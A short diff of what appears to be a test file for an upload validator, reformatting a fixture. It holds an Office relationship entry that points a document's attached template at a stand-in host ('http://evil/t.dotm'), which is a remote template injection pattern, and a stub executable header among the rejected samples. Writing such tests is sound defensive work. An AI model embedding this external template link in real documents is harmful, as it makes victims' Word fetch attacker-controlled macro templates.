@@ -21,7 +21,9 @@ GOOD = {
     "记录.txt": ("txt", "拜访记录: 3 < 5, 同意。\n".encode()),
     "gbk.csv": ("txt", "名称,金额\n甬江,1".encode("gb18030")),
 }
-REL = b'<R><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/></R>'
+REL = (
+    b'<R><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/></R>'
+)
 BAD = {
     "empty.pdf": (b"", "空"),
     "a.exe": (b"MZ\x90\x00" + b"\0" * 60, "可执行"),
